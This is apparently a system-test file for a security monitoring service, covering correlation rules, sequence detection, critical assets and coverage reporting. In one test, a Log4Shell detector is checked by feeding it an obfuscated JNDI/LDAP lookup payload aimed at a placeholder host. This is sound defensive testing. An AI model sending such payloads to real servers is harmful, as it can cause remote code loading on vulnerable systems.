"""From logs to correlated signals through the released client: correlation, critical assets, coverage."""

import threading
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from api_server import as_model, client_for, sdk_for, serve_services
from datadog_api_client.exceptions import ApiException
from datadog_api_client.v2.api.security_monitoring_api import SecurityMonitoringApi
from datadog_api_client.v2.model.security_monitoring_critical_asset_create_request import (
    SecurityMonitoringCriticalAssetCreateRequest,
)
from datadog_api_client.v2.model.security_monitoring_critical_asset_update_request import (
    SecurityMonitoringCriticalAssetUpdateRequest,
)
from datadog_api_client.v2.model.security_monitoring_rule_create_payload import SecurityMonitoringRuleCreatePayload
from waiting import PATIENCE, until

from tocsin.access.audit import drain

pytestmark = pytest.mark.system

BASE = "/api/v2/security_monitoring"
WINDOWS = {"evaluationWindow": 300, "keepAlive": 300, "maxSignalDuration": 3600}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Any]]:
    with serve_services(tmp_path_factory.mktemp("correlation")) as (url, services):
        stop = threading.Event()
        engine = threading.Thread(target=services.engine.run, args=(stop,), daemon=True)
        engine.start()
        yield url, services
        stop.set()
        engine.join(PATIENCE)


@pytest.fixture(scope="module")
def sdk(served: tuple[str, Any]) -> Iterator[SecurityMonitoringApi]:
    with sdk_for(served[0]) as client:
        yield SecurityMonitoringApi(client)


@pytest.fixture(scope="module")
def client(served: tuple[str, Any]) -> Iterator[httpx.Client]:
    with client_for(served[0]) as client:
        yield client


def as_asset(kind: Any, attributes: dict[str, Any]) -> Any:
    return as_model(kind, {"data": {"type": "critical_assets", "attributes": attributes}})


def rule_body(name: str, *queries: dict[str, Any], status: str = "low", **more: Any) -> dict[str, Any]:
    return {
        "name": name,
        "message": "m",
        "isEnabled": True,
        "queries": list(queries),
        "cases": [{"name": "", "status": status, "condition": "a > 0"}],
        "options": WINDOWS,
        **more,
    }


def make(sdk: SecurityMonitoringApi, body: dict[str, Any]) -> str:
    made = sdk.create_security_monitoring_rule(body=as_model(SecurityMonitoringRuleCreatePayload, body))
    return str(made.id)


def signals_of(client: httpx.Client, rule_id: str) -> list[dict[str, Any]]:
    found = client.get(f"{BASE}/signals", params={"filter[query]": f"@workflow.rule.id:{rule_id}"}).json()["data"]
    return [client.get(f"{BASE}/signals/{signal['id']}").json()["data"] for signal in found]


def test_two_rules_about_one_user(sdk: SecurityMonitoringApi, client: httpx.Client) -> None:
    door = make(sdk, rule_body("Door", {"query": "source:door", "groupByFields": ["@usr.id"]}))
    safe = make(sdk, rule_body("Safe", {"query": "source:safe", "groupByFields": ["@usr.id"]}))
    named = [
        {"ruleId": rule_id, "aggregation": "event_count", "correlatedByFields": ["@usr.id"], "name": name}
        for rule_id, name in ((door, "a"), (safe, "b"))
    ]
    body = rule_body("Both", *named, status="critical", type="signal_correlation")
    body["cases"][0]["condition"] = "a > 0 && b > 0"
    both = make(sdk, body)
    read = sdk.get_security_monitoring_rule(both)
    assert [query["ruleId"] for query in read.to_dict()["queries"]] == [door, safe]
    seen = (("door", "bob"), ("safe", "bob"), ("door", "eve"))
    logs = [{"ddsource": source, "message": source, "usr": {"id": user}} for source, user in seen]
    assert client.post("/api/v2/logs", json=logs).status_code == 202
    (signal,) = until(lambda: signals_of(client, both))
    custom = signal["attributes"]["custom"]
    assert signal["attributes"]["status"] == "critical"
    assert (custom["usr"], custom["workflow"]["rule"]["type"]) == ({"id": "bob"}, "Signal Correlation")
    members = client.get(f"{BASE}/signals/{signal['id']}/events").json()
    assert members["meta"]["total"] == 2
    assert {member["type"] for member in members["data"]} == {"signal"}
    assert sorted(member["id"] for member in members["data"]) == sorted(custom["correlation"]["signals"])
    asked = {"rule": body, "from": "now-1h", "to": "now+1h"}
    preview = client.post(f"{BASE}/rules/preview", json=asked).json()["data"]
    assert [query["total"] for query in preview["queries"]] == [2, 1]
    assert [shown["group"] for shown in preview["signals"]["shown"]] == [{"@usr.id": "bob"}]
    backtest = client.post(f"{BASE}/rules/backtest", json={**asked, "against": both}).json()["data"]
    assert (backtest["signals"], backtest["comparison"]["counts"]["same"]) == (1, 1)
    for wrong, said in (
        ({**body, "queries": [{**named[0], "ruleId": "zzz-zzz-zzz"}, named[1]]}, "There is no rule zzz-zzz-zzz"),
        ({**body, "queries": [{**named[0], "correlatedQueryIndex": 3}, named[1]]}, "none with the index 3"),
    ):
        refused = client.post(f"{BASE}/rules/validation", json=wrong)
        assert refused.status_code == 400 and said in refused.text
    cyclic = client.put(f"{BASE}/rules/{both}", json={"queries": [named[0], {**named[1], "ruleId": both}]})
    assert cyclic.status_code == 400
    (_, said) = cyclic.json()["errors"]
    assert said == f"The rule would read its own signals without end: 'Both' ({both}) → 'Both' ({both})"


def test_logs_and_signals_in_one_sequence(sdk: SecurityMonitoringApi, client: httpx.Client) -> None:
    guessed = make(sdk, rule_body("Guessed", {"query": "source:guess", "groupByFields": ["@usr.id"]}))
    body = rule_body(
        "Guessed, then a key",
        {"name": "guessed", "ruleId": guessed, "aggregation": "event_count", "correlatedByFields": ["@usr.id"]},
        {"name": "made", "query": "source:key", "aggregation": "count", "groupByFields": ["@usr.id"]},
        status="high",
        type="log_detection",
    )
    steps = [{"name": name, "condition": f"{name} > 0", "evaluationWindow": 300} for name in ("guessed", "made")]
    transition = {"parent": "guessed", "child": "made", "evaluationWindow": 3600}
    options = {"steps": steps, "stepTransitions": [transition]}
    body["options"] = {**WINDOWS, "detectionMethod": "sequence_detection", "sequenceDetectionOptions": options}
    body["cases"][0]["condition"] = "made > 0"
    rule = client.post(f"{BASE}/rules", json=body).json()
    assert [query.get("ruleId") for query in rule["queries"]] == [guessed, None]
    for source, users in (("guess", ("bob",)), ("key", ("bob", "eve"))):
        logs = [{"ddsource": source, "message": source, "usr": {"id": user}} for user in users]
        assert client.post("/api/v2/logs", json=logs).status_code == 202
        until(lambda: signals_of(client, guessed))
    (signal,) = until(lambda: signals_of(client, rule["id"]))
    assert signal["attributes"]["custom"]["usr"] == {"id": "bob"}
    (member,) = signal["attributes"]["custom"]["correlation"]["signals"]
    found = client.get(f"{BASE}/signals/{signal['id']}/events").json()["data"]
    assert [event["type"] for event in found] == ["signal", "log"] and found[0]["id"] == member
    asked = {"rule": body, "from": "now-1h", "to": "now+1h"}
    preview = client.post(f"{BASE}/rules/preview", json=asked).json()["data"]
    assert ([query["total"] for query in preview["queries"]], preview["signals"]["total"]) == ([1, 2], 1)


def test_log4shell_is_told_in_plain_text(sdk: SecurityMonitoringApi, client: httpx.Client) -> None:
    body = rule_body("Log4Shell", {"query": "source:shop", "groupByFields": ["@usr.id"]}, status="medium")
    body["options"] = {**WINDOWS, "detectionMethod": "hardcoded", "hardcodedEvaluatorType": "log4shell"}
    rule = make(sdk, body)
    read = client.get(f"{BASE}/rules/{rule}").json()["options"]
    assert (read["detectionMethod"], read["hardcodedEvaluatorType"]) == ("hardcoded", "log4shell")
    texts = (("eve", "%24%7B%24%7Blower:j%7Dndi:ldap://x.test/a%7D"), ("bob", "%24%7Bamount%7D"))
    logs = [
        {"ddsource": "shop", "message": "GET /", "usr": {"id": user}, "q": f"{user}={text}"} for user, text in texts
    ]
    assert client.post("/api/v2/logs", json=logs).status_code == 202
    (signal,) = until(lambda: signals_of(client, rule))
    custom = signal["attributes"]["custom"]
    assert custom["usr"] == {"id": "eve"}
    assert custom["log4shell"] == {"attribute": "@q", "lookup": "${jndi:ldap://x.test/a}"}
    preview = client.post(f"{BASE}/rules/preview", json={"rule": body, "from": "now-1h", "to": "now+1h"}).json()["data"]
    assert ([query["total"] for query in preview["queries"]], preview["signals"]["total"]) == ([1], 1)
    why = client.post(
        f"{BASE}/rules/{rule}/explain", json={"entity": {"@usr.id": "bob"}, "from": "now-1h", "to": "now"}
    )
    steps = {step["name"]: step["status"] for step in why.json()["data"]["attributes"]["steps"]}
    assert (steps["query"], steps["recognised"]) == ("passed", "failed")


def test_a_critical_asset_raises_what_it_is_about(
    sdk: SecurityMonitoringApi, client: httpx.Client, served: tuple[str, Any]
) -> None:
    vault = make(sdk, rule_body("Vault", {"query": "source:vault", "groupByFields": ["@usr.id"]}, tags=["area:vault"]))
    attributes = {"query": "@usr.id:ceo", "rule_query": "area:vault", "severity": "increase", "description": "the boss"}
    made = sdk.create_security_monitoring_critical_asset(
        body=as_asset(SecurityMonitoringCriticalAssetCreateRequest, attributes)
    ).data
    assert (made.attributes.version, made.attributes.enabled, made.attributes.editable) == (1, True, True)
    assert [one.id for one in sdk.get_critical_assets_affecting_rule(vault).data] == [made.id]
    logs = [{"ddsource": "vault", "message": "opened", "usr": {"id": user}} for user in ("ceo", "clerk")]
    assert client.post("/api/v2/logs", json=logs).status_code == 202
    both = until(lambda: signals_of(client, vault), lambda found: len(found) == 2)
    found = {signal["attributes"]["custom"]["usr"]["id"]: signal for signal in both}
    assert [found[user]["attributes"]["status"] for user in ("ceo", "clerk")] == ["medium", "low"]
    data = found["ceo"]["attributes"]["custom"]["critical_assets_data"]
    assert (data["original_severity"], data["adjusted_severity"]) == ("low", "medium")
    assert [one["id"] for one in data["critical_assets"]] == [made.id]
    assert "critical_assets_data" not in found["clerk"]["attributes"]["custom"]
    (because,) = found["ceo"]["attributes"]["custom"]["explanation"]["adjustments"]
    assert (because["kind"], because["from"], because["to"]) == ("critical_asset", "low", "medium")

    changed = sdk.update_security_monitoring_critical_asset(
        made.id, body=as_asset(SecurityMonitoringCriticalAssetUpdateRequest, {"enabled": False, "version": 1})
    ).data
    assert (changed.attributes.version, changed.attributes.enabled) == (2, False)
    assert changed.attributes.query == "@usr.id:ceo"
    assert sdk.get_critical_assets_affecting_rule(vault).data == []
    assert [one.id for one in sdk.list_security_monitoring_critical_assets().data] == [made.id]
    with pytest.raises(ApiException) as stale:
        sdk.update_security_monitoring_critical_asset(
            made.id, body=as_asset(SecurityMonitoringCriticalAssetUpdateRequest, {"enabled": True, "version": 1})
        )
    assert stale.value.status == 409
    for name, value in (("query", "("), ("rule_query", " "), ("severity", "grave")):
        wrong = {"data": {"type": "critical_assets", "attributes": {**attributes, name: value}}}
        refused = client.post(f"{BASE}/configuration/critical_assets", json=wrong)
        assert refused.status_code == 400 and name in refused.text
    sdk.delete_security_monitoring_critical_asset(made.id)
    with pytest.raises(ApiException) as missing:
        sdk.get_security_monitoring_critical_asset(made.id)
    assert missing.value.status == 404
    _, services = served
    while drain(services.outbox, services.events, services.clock):
        pass
    entries = client.get("/api/v2/audit/events", params={"filter[query]": f"@asset.id:{made.id}"}).json()["data"]
    assert sorted(one["attributes"]["attributes"]["action"] for one in entries) == ["created", "deleted", "modified"]


def test_coverage_says_what_was_looked_at(sdk: SecurityMonitoringApi, client: httpx.Client) -> None:
    gate = make(sdk, rule_body("Gate", {"query": "source:gate"}))
    assert client.post("/api/v2/logs", json=[{"ddsource": "gate", "message": "1"}]).status_code == 202
    until(lambda: signals_of(client, gate))
    answer = client.get(f"{BASE}/coverage", params={"rule_id": gate, "from": "now-5m", "interval": 1}).json()
    (found,) = answer["data"]
    assert (found["id"], found["type"], found["attributes"]["sources"]) == (gate, "coverage", ["gate"])
    assert found["attributes"]["matches"] == 1
    assert (found["attributes"]["cells"][0]["status"], found["attributes"]["cells"][0]["reasons"]) == (
        "off",
        ["not enabled"],
    )
    assert found["attributes"]["cells"][-1]["status"] == "pending"
    assert sum(found["attributes"]["summary"].values()) == len(found["attributes"]["cells"])
    until(lambda: client.get(f"{BASE}/coverage").json()["meta"]["engine"]["status"], "working".__eq__)
    every = client.get(f"{BASE}/coverage", params={"page[size]": 2}).json()
    assert len(every["data"]) == 2 and every["meta"]["page"]["total_count"] > 2
    assert client.get(f"{BASE}/coverage", params={"rule_id": "zzz-zzz-zzz"}).status_code == 404


def test_coverage_is_chosen_and_counted_over_all_rules(sdk: SecurityMonitoringApi, client: httpx.Client) -> None:
    make(sdk, rule_body("Left gate", {"query": "source:leftgate"}))
    make(sdk, rule_body("Right gate", {"query": "source:rightgate"}) | {"isEnabled": False})

    def coverage(**params: Any) -> Any:
        return client.get(
            f"{BASE}/coverage", params={"from": "now-5m", "interval": 1, "page[size]": 1, **params}
        ).json()

    every = coverage(query="gate")
    assert len(every["data"]) == 1
    assert every["meta"]["page"]["total_count"] == every["meta"]["page"]["total_filtered_count"] >= 2
    assert sum(every["meta"]["summary"].values()) == every["meta"]["page"]["total_count"] * len(
        every["data"][0]["attributes"]["cells"]
    )
    names = [
        coverage(query="gate", status="off", sort=sort, **{"page[size]": 100})["data"] for sort in ("name", "-name")
    ]
    assert [rule["id"] for rule in names[0]] == [rule["id"] for rule in reversed(names[1])]
    failed = coverage(query="gate", status="failed")
    assert (failed["data"], failed["meta"]["page"]["total_filtered_count"]) == ([], 0)
    assert failed["meta"]["summary"].keys() == every["meta"]["summary"].keys(), "what it counts does not depend on it"
    assert coverage(query="nobody has such a name")["meta"]["page"]["total_count"] == 0
    for refused in ({"status": "broken"}, {"query": "severity:("}, {"sort": "colour"}):
        assert client.get(f"{BASE}/coverage", params=refused).status_code == 400
    assert client.get(f"{BASE}/coverage", params={"from": "now", "to": "now-1h"}).status_code == 400
